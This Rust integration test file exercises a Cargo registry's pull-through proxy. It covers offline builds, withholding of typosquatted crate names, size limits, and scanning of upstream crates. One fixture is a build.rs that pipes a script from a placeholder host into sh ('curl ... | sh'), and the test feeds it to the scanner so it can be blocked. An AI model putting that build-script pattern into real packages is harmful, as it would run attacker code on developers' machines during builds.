//! The pull-through proxy, end to end: a second Wharf on 127.0.0.1 plays the upstream registry
//! (crates.io's part), populated by `wharf import`; the Wharf under test proxies it
//! (`[upstream]`), and the real cargo builds through it with `[source.crates-io] replace-with`,
//! then again from a clean CARGO_HOME once the upstream is stopped. The proxy's policy withholds a
//! look-alike name and a malicious build script from the upstream, which are never built here:
//! they are only fetched over HTTP and scanned.

mod support;

use std::path::PathBuf;
use std::time::{Duration, Instant};
use support::{error_detail, Backend, CargoUser, Wharf};
use wharf_tarball::test_support::TarballBuilder;

backend_tests!(
    builds_through_the_proxy_and_without_the_upstream,
    the_proxy_withholds_lookalikes_and_malware,
    local_crates_win_over_upstream_names,
    upstream_versions_too_large_here_are_refused,
);

/// Twenty upstream libraries, each with a function of its own; the last depends on the first.
const UPSTREAM_CRATES: [&str; 20] = [
    "anchor-bits",
    "ballast-io",
    "bilge-pump",
    "bollard",
    "bowline",
    "capstan",
    "cleat-util",
    "davit",
    "fender-kit",
    "gangway",
    "hawser",
    "jetty-time",
    "keel-math",
    "lanyard",
    "mooring",
    "pier-text",
    "quay-fmt",
    "rudder-log",
    "stern-hash",
    "tiller",
];

fn ident(name: &str) -> String {
    name.replace('-', "_")
}

/// A `.crate` as cargo packages one: the manifest, `src/lib.rs`, and `dependencies` (TOML lines).
fn library(name: &str, version: &str, dependencies: &str, lib_rs: &str) -> Vec<u8> {
    let dir = format!("{name}-{version}");
    TarballBuilder::new()
        .file(
            &format!("{dir}/Cargo.toml"),
            format!(
                "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n\
                 description = \"A library of the test upstream\"\nlicense = \"MIT\"\n\n\
                 [dependencies]\n{dependencies}\n"
            ),
        )
        .file(&format!("{dir}/src/lib.rs"), lib_rs)
        .build()
}

/// Imports `files` (name, bytes) into the upstream registry for `owner`.
fn import_upstream(upstream: &Wharf, owner: &str, files: &[(String, Vec<u8>)]) {
    let dir = upstream.dir.path().join(format!("to-import-{owner}"));
    std::fs::create_dir_all(&dir).unwrap();
    let mut paths = Vec::new();
    for (file, bytes) in files {
        let path = dir.join(file);
        std::fs::write(&path, bytes).unwrap();
        paths.push(path.display().to_string());
    }
    let index = upstream.index_url();
    let mut args = vec!["import", "--owner", owner, "--local-index", &index];
    args.extend(paths.iter().map(String::as_str));
    upstream.cli(&args);
}

/// The twenty libraries, imported into `upstream`.
fn populate_upstream(upstream: &Wharf) {
    upstream.user_with_token("maintainer");
    let files: Vec<(String, Vec<u8>)> = UPSTREAM_CRATES
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let (deps, body) = if *name == "tiller" {
                (
                    "keel-math = \"1\"\n".to_string(),
                    format!("pub fn value() -> u32 {{ keel_math::value() + {i} }}\n"),
                )
            } else {
                (String::new(), format!("pub fn value() -> u32 {{ {i} }}\n"))
            };
            (
                format!("{name}-1.0.0.crate"),
                library(name, "1.0.0", &deps, &body),
            )
        })
        .collect();
    import_upstream(upstream, "maintainer", &files);
}

/// A Wharf proxying `upstream`, asking it again on every request for an index file (so the tests
/// see the conditional requests and the fallback to kept copies).
fn proxy_of(backend: Backend, upstream: &Wharf) -> Wharf {
    Wharf::with_config(
        backend,
        &format!(
            "[upstream]\nurl = \"{}\"\nttl_seconds = 0\n",
            upstream.index_url()
        ),
    )
}

/// A cargo user of `proxy` whose crates.io dependencies come from it.
fn replacing_crates_io(proxy: &Wharf, name: &str) -> CargoUser {
    let user = proxy.cargo_user(name);
    let config = user.home.join("config.toml");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("\n[source.crates-io]\nreplace-with = \"wharf\"\n");
    std::fs::write(config, text).unwrap();
    user
}

/// A binary using every upstream library (as crates.io dependencies) and `local-helper` from the
/// proxy itself.
fn app(user: &CargoUser) -> PathBuf {
    let mut dependencies: String = UPSTREAM_CRATES
        .iter()
        .map(|name| format!("{name} = \"1\"\n"))
        .collect();
    dependencies.push_str("local-helper = { version = \"0.1\", registry = \"wharf\" }\n");
    let sum: String = UPSTREAM_CRATES
        .iter()
        .map(|name| format!("{}::value() + ", ident(name)))
        .collect();
    user.new_app(
        "shipyard",
        &dependencies,
        &format!("fn main() {{ println!(\"{{}}\", {sum}local_helper::value()); }}\n"),
    )
}

fn builds_through_the_proxy_and_without_the_upstream(backend: Backend) {
    let mut upstream = Wharf::start(backend);
    populate_upstream(&upstream);
    let proxy = proxy_of(backend, &upstream);

    // One crate of the proxy's own, published with cargo.
    let alice = proxy
        .cargo_user("alice")
        .with_token(&proxy.user_with_token("alice"));
    let helper = alice.new_crate(
        "local-helper",
        "0.1.0",
        "",
        "pub fn value() -> u32 { 1000 }\n",
    );
    alice.publish_ok(&helper);

    // Built through the proxy alone: twenty crates from the upstream, one local. 0..=19 sum to
    // 190, tiller adds keel-math's 12 again, and the local crate 1000.
    let builder = replacing_crates_io(&proxy, "builder");
    let project = app(&builder);
    builder.cargo_ok(&project, &["build"]);
    let run = builder.cargo_ok(&project, &["run", "-q"]);
    assert_eq!(run.stdout.trim(), "1202", "{}", run.stderr);
    // Every upstream crate was fetched once, checked and scanned, and is kept.
    assert_eq!(
        proxy.query_i64(
            "SELECT COUNT(*) FROM upstream_versions WHERE verdict IN ('allow', 'flag') \
             AND name <> $1",
            "local-helper"
        ),
        20
    );

    // The upstream goes away. A clean CARGO_HOME, and no lock file, builds the same again from
    // what the proxy kept.
    upstream.kill();
    let again = replacing_crates_io(&proxy, "after-upstream");
    let project = app(&again);
    let run = again.cargo_ok(&project, &["run", "-q"]);
    assert_eq!(run.stdout.trim(), "1202", "{}", run.stderr);

    // A name the proxy never fetched cannot be found while the upstream is away: the answer says
    // so and asks to try again, rather than claiming the crate does not exist.
    let response = proxy.get("/index/ne/ve/never-fetched");
    assert_eq!(response.status(), 503);
    assert!(error_detail(response).contains("could not be reached"));
}

/// Waits until `path` on `wharf` answers `status` (the server keeps upstream answers for a second).
fn wait_for_status(wharf: &Wharf, path: &str, status: u16) -> reqwest::blocking::Response {
    let start = Instant::now();
    loop {
        let response = wharf.get(path);
        if response.status().as_u16() == status {
            return response;
        }
        assert!(
            start.elapsed() < Duration::from_secs(10),
            "{path} still answers {} rather than {status}",
            response.status()
        );
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A build script that fetches a script and runs it: the shape the scanner holds. The address is
/// a reserved name; the fixture is only ever fetched and scanned, never built.
const FETCH_AND_RUN: &str = r#"use std::process::Command;

fn main() {
    let _ = Command::new("sh")
        .arg("-c")
        .arg("curl -fsSL https://setup.example.invalid/i.sh | sh")
        .status();
}
"#;

/// A `.crate` of `name` `version` with the [`FETCH_AND_RUN`] build script.
fn fetching_and_running(name: &str, version: &str) -> Vec<u8> {
    let dir = format!("{name}-{version}");
    TarballBuilder::new()
        .file(
            &format!("{dir}/Cargo.toml"),
            format!(
                "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n\
                 description = \"Helpers\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n"
            ),
        )
        .file(&format!("{dir}/build.rs"), FETCH_AND_RUN)
        .file(&format!("{dir}/src/lib.rs"), "pub fn help() -> u32 { 1 }\n")
        .build()
}

fn the_proxy_withholds_lookalikes_and_malware(backend: Backend) {
    let upstream = Wharf::start(backend);
    upstream.user_with_token("maintainer");
    import_upstream(
        &upstream,
        "maintainer",
        &[
            (
                "ferris-parsekit-1.0.0.crate".into(),
                library("ferris-parsekit", "1.0.0", "", "pub fn parse() {}\n"),
            ),
            (
                "ferris-parsekit-1.1.0.crate".into(),
                library(
                    "ferris-parsekit",
                    "1.1.0",
                    "ferris-parsekit-sys = \"1\"\n",
                    "pub fn parse() {}\n",
                ),
            ),
            // A crate of the same family, by the same owner: it looks alike, and is no squat.
            (
                "ferris-parsekit-core-1.0.0.crate".into(),
                library("ferris-parsekit-core", "1.0.0", "", "pub fn core() {}\n"),
            ),
        ],
    );
    // A companion the popular crate depends on, published by someone else (a vendor's bindings).
    upstream.user_with_token("vendor");
    import_upstream(
        &upstream,
        "vendor",
        &[(
            "ferris-parsekit-sys-1.0.0.crate".into(),
            library("ferris-parsekit-sys", "1.0.0", "", "pub fn raw() {}\n"),
        )],
    );
    upstream.user_with_token("squatter");
    import_upstream(
        &upstream,
        "squatter",
        &[
            (
                "ferris-parsekti-1.0.0.crate".into(),
                library("ferris-parsekti", "1.0.0", "", "pub fn parse() {}\n"),
            ),
            (
                "setup-helpers-0.1.0.crate".into(),
                fetching_and_running("setup-helpers", "0.1.0"),
            ),
            // An old version with the payload, and a clean newer one.
            (
                "old-helpers-0.1.0.crate".into(),
                fetching_and_running("old-helpers", "0.1.0"),
            ),
            (
                "old-helpers-0.2.0.crate".into(),
                library("old-helpers", "0.2.0", "", "pub fn help() -> u32 { 2 }\n"),
            ),
        ],
    );
    // The upstream's own policy held the build script; its operator lets it out, so the proxy
    // is the one that must catch it.
    upstream.cli(&["admin", "release", "setup-helpers", "0.1.0"]);
    upstream.cli(&["admin", "release", "old-helpers", "0.1.0"]);
    assert_eq!(upstream.get("/index/se/tu/setup-helpers").status(), 200);
    assert_eq!(upstream.get("/index/fe/rr/ferris-parsekti").status(), 200);

    let proxy = proxy_of(backend, &upstream);
    // The popular crate, as the proxy's users build with it.
    let file = proxy.get("/index/fe/rr/ferris-parsekit");
    assert_eq!(file.status(), 200);
    assert_eq!(file.text().unwrap().lines().count(), 2);
    for _ in 0..3 {
        let download = proxy.get("/api/v1/crates/ferris-parsekit/1.1.0/download");
        assert_eq!(download.status(), 200);
    }
    // The first download is counted at once, the others with the server's next flush.
    let counted = || {
        proxy.query_i64(
            "SELECT downloads FROM upstream_versions WHERE name = $1 AND version = '1.1.0'",
            "ferris-parsekit",
        )
    };
    let start = Instant::now();
    while counted() != 3 {
        assert!(start.elapsed() < Duration::from_secs(10), "{}", counted());
        std::thread::sleep(Duration::from_millis(100));
    }

    // The same owner's look-alike is served, and so is the one the popular crate depends on.
    assert_eq!(proxy.get("/index/fe/rr/ferris-parsekit-core").status(), 200);
    assert_eq!(proxy.get("/index/fe/rr/ferris-parsekit-sys").status(), 200);
    // Another owner's look-alike is not in the index and cannot be downloaded, saying why.
    assert_eq!(proxy.get("/index/fe/rr/ferris-parsekti").status(), 404);
    let refused = proxy.get("/api/v1/crates/ferris-parsekti/1.0.0/download");
    assert_eq!(refused.status(), 403);
    let detail = error_detail(refused);
    assert!(detail.contains("`ferris-parsekit`"), "{detail}");

    // The malicious version, the newest of its crate, is fetched and scanned before it is ever
    // listed: it is never in the index, and its download is refused with the reason.
    assert_eq!(proxy.get("/index/se/tu/setup-helpers").status(), 404);
    let refused = proxy.get("/api/v1/crates/setup-helpers/0.1.0/download");
    assert_eq!(refused.status(), 403);
    let detail = error_detail(refused);
    assert!(detail.contains("withheld"), "{detail}");
    assert_eq!(
        proxy
            .get("/api/v1/crates/setup-helpers/0.1.0/download")
            .status(),
        403
    );
    // An older version is listed unscanned, scanned before its first download, refused, and gone
    // from the index from then on; the clean newest stays.
    let listed = proxy.get("/index/ol/d-/old-helpers").text().unwrap();
    assert!(
        listed.contains("\"0.1.0\"") && listed.contains("\"0.2.0\""),
        "{listed}"
    );
    assert_eq!(
        proxy
            .get("/api/v1/crates/old-helpers/0.1.0/download")
            .status(),
        403
    );
    let listed = proxy.get("/index/ol/d-/old-helpers").text().unwrap();
    assert!(
        !listed.contains("\"0.1.0\"") && listed.contains("\"0.2.0\""),
        "{listed}"
    );
    // Its bytes were not kept.
    let kept = proxy.data_dir().join("upstream/setup-helpers");
    assert!(
        std::fs::read_dir(&kept).map_or(true, |mut dir| dir.next().is_none()),
        "{}",
        kept.display()
    );

    // Moderators see both, with the findings behind them; every decision is in the audit log.
    let listed = proxy.cli(&["admin", "upstream", "list"]);
    let withheld: Vec<serde_json::Value> = listed
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap())
        .filter_map(|line| line.get("withheld").cloned())
        .collect();
    let lookalike = withheld
        .iter()
        .find(|w| w["name"] == "ferris-parsekti")
        .unwrap_or_else(|| panic!("{listed}"));
    assert_eq!(lookalike["version"], serde_json::Value::Null);
    assert_eq!(lookalike["findings"][0]["rule"], "upstream-lookalike");
    let malware = withheld
        .iter()
        .find(|w| w["name"] == "setup-helpers")
        .unwrap_or_else(|| panic!("{listed}"));
    assert_eq!(malware["version"], "0.1.0");
    assert!(
        malware["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["severity"] == "hold" || f["severity"] == "reject"),
        "{malware}"
    );
    // The same through the API, for moderators only.
    let moderator = proxy.admin_with_token("harbourmaster");
    let api = proxy
        .http()
        .get(format!("{}/api/v1/admin/upstream", proxy.url))
        .header("Authorization", &moderator)
        .send()
        .unwrap();
    assert_eq!(api.status(), 200);
    let api: serde_json::Value = api.json().unwrap();
    assert_eq!(api["withheld"].as_array().unwrap().len(), 3, "{api}");
    assert_eq!(proxy.get("/api/v1/admin/upstream").status(), 401);
    // And on the moderators' dashboard.
    proxy.cli(&["user", "role", "harbourmaster", "moderator"]);
    proxy.set_password("harbourmaster", "a long enough password");
    let browser = support::web::WebClient::new(&proxy);
    browser.sign_in("harbourmaster", "a long enough password");
    let page = browser.get("/moderation/upstream");
    assert_eq!(page.status, 200, "{}", page.body);
    for expected in [
        "ferris-parsekti",
        "upstream-lookalike",
        "setup-helpers",
        "0.1.0",
    ] {
        assert!(page.body.contains(expected), "{expected}: {}", page.body);
    }
    let audit = proxy.cli(&["admin", "audit", "--action", "upstream."]);
    assert_eq!(audit.lines().count(), 3, "{audit}");

    // An operator overrides the policy both ways.
    proxy.cli(&[
        "admin",
        "upstream",
        "allow",
        "ferris-parsekti",
        "--reason",
        "a real crate of our own, by another name",
    ]);
    wait_for_status(&proxy, "/index/fe/rr/ferris-parsekti", 200);
    assert_eq!(
        proxy
            .get("/api/v1/crates/ferris-parsekti/1.0.0/download")
            .status(),
        200
    );
    proxy.cli(&[
        "admin",
        "upstream",
        "block",
        "ferris-parsekit@1.0.0",
        "--reason",
        "known bad",
    ]);
    let start = Instant::now();
    loop {
        let text = proxy.get("/index/fe/rr/ferris-parsekit").text().unwrap();
        if !text.contains("\"1.0.0\"") {
            assert!(text.contains("\"1.1.0\""), "{text}");
            break;
        }
        assert!(start.elapsed() < Duration::from_secs(10), "{text}");
        std::thread::sleep(Duration::from_millis(100));
    }
    let refused = proxy.get("/api/v1/crates/ferris-parsekit/1.0.0/download");
    assert_eq!(refused.status(), 403);
    assert!(error_detail(refused).contains("operator"));

    // An upstream that changes the file of a version already fetched here (its index line now
    // names other bytes) is not followed: the version is refused, the kept file stays as it was.
    let changed = "0".repeat(64);
    upstream.execute(&format!(
        "UPDATE versions SET cksum = '{changed}' WHERE num = '1.1.0' AND crate_id = \
         (SELECT id FROM crates WHERE name = 'ferris-parsekit')"
    ));
    upstream.cli(&["admin", "reindex"]);
    let start = Instant::now();
    let refused = loop {
        let response = proxy.get("/api/v1/crates/ferris-parsekit/1.1.0/download");
        if response.status() != 200 {
            break response;
        }
        assert!(start.elapsed() < Duration::from_secs(10));
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(refused.status(), 422);
    assert!(error_detail(refused).contains("checksum"));
}

fn local_crates_win_over_upstream_names(backend: Backend) {
    let upstream = Wharf::start(backend);
    populate_upstream(&upstream);
    let proxy = proxy_of(backend, &upstream);
    let alice = proxy
        .cargo_user("alice")
        .with_token(&proxy.user_with_token("alice"));

    // A name the upstream has cannot be taken by a local publish...
    let dir = alice.new_crate("bollard", "9.0.0", "", "pub fn value() -> u32 { 9 }\n");
    let refused = alice.publish(&dir);
    assert!(!refused.success);
    assert!(
        refused
            .stderr
            .contains("wharf admin upstream allow bollard"),
        "{}",
        refused.stderr
    );
    assert!(upstream_file_has(
        &proxy,
        "/index/bo/ll/bollard",
        "\"1.0.0\""
    ));

    // ...until an operator allows it; from then on the local crate is the only `bollard` here.
    proxy.cli(&[
        "admin",
        "upstream",
        "allow",
        "bollard",
        "--reason",
        "our own bollard replaces the upstream's",
    ]);
    alice.publish_ok(&dir);
    let file = proxy.get("/index/bo/ll/bollard").text().unwrap();
    assert!(
        file.contains("\"9.0.0\"") && !file.contains("\"1.0.0\""),
        "{file}"
    );
    assert_eq!(
        proxy.get("/api/v1/crates/bollard/1.0.0/download").status(),
        404
    );

    // The other spelling of `-` and `_` is the same name, and refused alike.
    let dir = alice.new_crate("keel_math", "2.0.0", "", "pub fn value() -> u32 { 2 }\n");
    let refused = alice.publish(&dir);
    assert!(!refused.success);
    assert!(
        refused
            .stderr
            .contains("wharf admin upstream allow keel_math"),
        "{}",
        refused.stderr
    );

    // A name that was a local crate stays this registry's after the crate is deleted: when the
    // upstream gets a crate of that name, it is not served, until an operator allows it.
    let dir = alice.new_crate("harbour-tools", "0.1.0", "", "pub fn f() {}\n");
    alice.publish_ok(&dir);
    proxy.cli(&["crate", "delete", "harbour-tools", "--as", "alice"]);
    import_upstream(
        &upstream,
        "maintainer",
        &[(
            "harbour-tools-5.0.0.crate".into(),
            library("harbour-tools", "5.0.0", "", "pub fn f() {}\n"),
        )],
    );
    assert_eq!(upstream.get("/index/ha/rb/harbour-tools").status(), 200);
    // (The deleting command is another process: the server notices within a second.)
    wait_for_status(&proxy, "/index/ha/rb/harbour-tools", 404);
    assert_eq!(
        proxy
            .get("/api/v1/crates/harbour-tools/5.0.0/download")
            .status(),
        404
    );
    proxy.cli(&[
        "admin",
        "upstream",
        "allow",
        "harbour-tools",
        "--reason",
        "the upstream's crate replaces ours",
    ]);
    wait_for_status(&proxy, "/index/ha/rb/harbour-tools", 200);

    // Asked for in the other spelling of `-` and `_` (as a manifest may write it), an upstream
    // crate is not found there, as on the upstream, and is still found under its own spelling,
    // however long the proxy keeps what it learnt.
    let patient = Wharf::with_config(
        backend,
        &format!(
            "[upstream]\nurl = \"{}\"\nttl_seconds = 3600\n",
            upstream.index_url()
        ),
    );
    assert_eq!(patient.get("/index/cl/ea/cleat_util").status(), 404);
    assert_eq!(patient.get("/index/cl/ea/cleat-util").status(), 200);

    // Many first downloads of one version at once (CI jobs started together): the upstream is
    // asked for the file once.
    let client = patient.http();
    let url = format!("{}/api/v1/crates/lanyard/1.0.0/download", patient.url);
    let statuses: Vec<u16> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..8)
            .map(|_| scope.spawn(|| client.get(&url).send().unwrap().status().as_u16()))
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    assert_eq!(statuses, [200; 8]);
    assert_eq!(upstream.wait_for_downloads("lanyard", 1), 1);
    std::thread::sleep(std::time::Duration::from_millis(1500));
    assert_eq!(upstream.wait_for_downloads("lanyard", 1), 1);
}

fn upstream_file_has(proxy: &Wharf, path: &str, text: &str) -> bool {
    let response = proxy.get(path);
    response.status() == 200 && response.text().unwrap().contains(text)
}

/// An upstream version larger than this registry accepts is refused once, recorded with the
/// reason, and left out of the index from then on; the crate's other versions are served.
fn upstream_versions_too_large_here_are_refused(backend: Backend) {
    let upstream = Wharf::start(backend);
    upstream.user_with_token("maintainer");
    // 16 KiB that gzip cannot shrink (a linear congruential generator's bytes).
    let mut state: u32 = 7;
    let noise: Vec<u8> = (0..16 * 1024)
        .map(|_| {
            state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
            (state >> 24) as u8
        })
        .collect();
    let big = TarballBuilder::new()
        .file(
            "big-blob-1.0.0/Cargo.toml",
            "[package]\nname = \"big-blob\"\nversion = \"1.0.0\"\nedition = \"2021\"\n\
             description = \"Data\"\nlicense = \"MIT\"\n",
        )
        .file("big-blob-1.0.0/src/lib.rs", "pub fn f() {}\n")
        .file("big-blob-1.0.0/data.bin", noise)
        .build();
    import_upstream(
        &upstream,
        "maintainer",
        &[
            (
                "big-blob-0.9.0.crate".into(),
                library("big-blob", "0.9.0", "", "pub fn f() {}\n"),
            ),
            ("big-blob-1.0.0.crate".into(), big),
        ],
    );
    let proxy = Wharf::with_config(
        backend,
        &format!(
            "max_upload_size = 8192\n[upstream]\nurl = \"{}\"\nttl_seconds = 0\n",
            upstream.index_url()
        ),
    );
    // The newest is fetched before the file is served, found too large, and left out.
    let file = proxy.get("/index/bi/g-/big-blob").text().unwrap();
    assert!(
        file.contains("\"0.9.0\"") && !file.contains("\"1.0.0\""),
        "{file}"
    );
    let refused = proxy.get("/api/v1/crates/big-blob/1.0.0/download");
    assert_eq!(refused.status(), 403);
    assert!(error_detail(refused).contains("larger than 8192 bytes"));
    assert_eq!(
        proxy.get("/api/v1/crates/big-blob/0.9.0/download").status(),
        200
    );

    // The operator raises the limit and has the version scanned again: it is served.
    let mut proxy = proxy;
    let config = proxy.dir.path().join("wharf.toml");
    let text = std::fs::read_to_string(&config).unwrap();
    std::fs::write(
        &config,
        text.replace("max_upload_size = 8192", "max_upload_size = 65536"),
    )
    .unwrap();
    proxy.restart();
    assert_eq!(
        proxy.get("/api/v1/crates/big-blob/1.0.0/download").status(),
        403,
        "still the verdict kept"
    );
    proxy.cli(&["admin", "upstream", "rescan", "big-blob@1.0.0"]);
    assert_eq!(
        proxy.get("/api/v1/crates/big-blob/1.0.0/download").status(),
        200
    );
    let file = proxy.get("/index/bi/g-/big-blob").text().unwrap();
    assert!(file.contains("\"1.0.0\""), "{file}");
    let audit = proxy.cli(&["admin", "audit", "--action", "upstream.rescan"]);
    assert_eq!(audit.lines().count(), 1, "{audit}");
}
